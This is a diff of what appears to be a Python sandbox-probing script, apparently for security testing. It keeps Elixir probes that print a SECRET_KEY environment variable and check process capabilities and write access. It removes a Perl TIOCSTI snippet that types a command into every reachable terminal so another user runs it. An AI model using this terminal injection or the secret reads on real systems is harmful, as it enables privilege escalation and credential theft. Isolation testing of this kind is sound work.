@@ -18,13 +18,6 @@ IO.puts(inspect({node(), Path.basename(File.cwd!()), System.get_env("SECRET_KEY_
 for line <- File.stream!("/proc/self/status"), line =~ ~r/^(Uid|NoNewPrivs|CapBnd|Seccomp):/, do: IO.write(line)
 IO.puts(inspect({File.write("/opt/shop/x", ""), File.write("here", "")}))
 """
-TIOCSTI = r"""
-open(my $tty, '+<', '/dev/tty');
-for my $handle (grep { defined } $tty, *STDIN, *STDOUT, *STDERR) {
-  for my $key (split //, "touch /root/$ARGV[0]\n") { ioctl($handle, 0x5412, $key) or last }
-}
-"""
-"""Types a command into every terminal it can get at; whoever has the terminal runs it."""
 
 
 def remembered(ssh, host, word: str = "") -> list[str]:
